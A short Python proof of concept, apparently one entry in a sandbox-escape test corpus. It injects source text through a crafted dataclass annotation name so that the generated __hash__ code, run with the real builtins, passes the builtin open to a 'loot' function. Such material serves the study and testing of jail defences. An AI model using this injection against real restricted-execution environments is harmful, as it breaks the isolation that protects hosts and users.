# aim: inject source text through annotations that are set on the class
# mechanism: setattr of __annotations__, then the decorator as a function
# language: builtins
# reason: the library executes text unguarded, and with the real builtins
# jail: process
# plain: loot

import dataclasses


class Record:
    x = 0

    def sink(self, found):
        loot(found)
        return 0


setattr(Record, "__annotations__", {"x, self.sink(open)": int})
dataclasses.dataclass(Record, init=False, repr=False, eq=False, unsafe_hash=True, match_args=False)
hash(Record())
